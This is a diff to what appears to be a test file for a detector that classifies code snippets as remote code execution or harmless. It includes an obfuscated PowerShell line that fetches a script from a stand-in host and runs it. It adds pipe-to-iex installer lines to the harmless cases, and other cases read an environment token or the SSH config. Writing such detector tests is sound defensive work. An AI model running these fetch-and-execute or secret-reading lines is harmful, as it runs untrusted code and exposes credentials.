@@ -101,6 +101,8 @@ RUN = [
     ("a.ps1", "$f = 'ie' + 'x'\n$s = irm https://c.com/x\n& $f $s"),
 ]
 HARMLESS = [
+    ("a.ps1", "irm https://astral.sh/uv/install.ps1 | iex"),
+    ("a.py", "import subprocess\nsubprocess.run(['powershell', '-c', 'irm https://astral.sh/uv/install.ps1 | iex'], check=True)"),
     ("a.rb", "require 'open-uri'\ndata = JSON.parse(URI.open('https://c.invalid/d.json').read)\nputs data['name']"),
     ("a.rb", "key = ENV['ACME_TOKEN']\nNet::HTTP.post(URI('https://c.invalid'), '{}', 'Authorization' => \"Bearer #{key}\")"),
     ("a.rb", "path = File.join(Dir.home, '.ssh', 'config')\nputs File.read(path)\nNet::HTTP.post(URI('https://c.invalid'), File.read('report.md'))"),
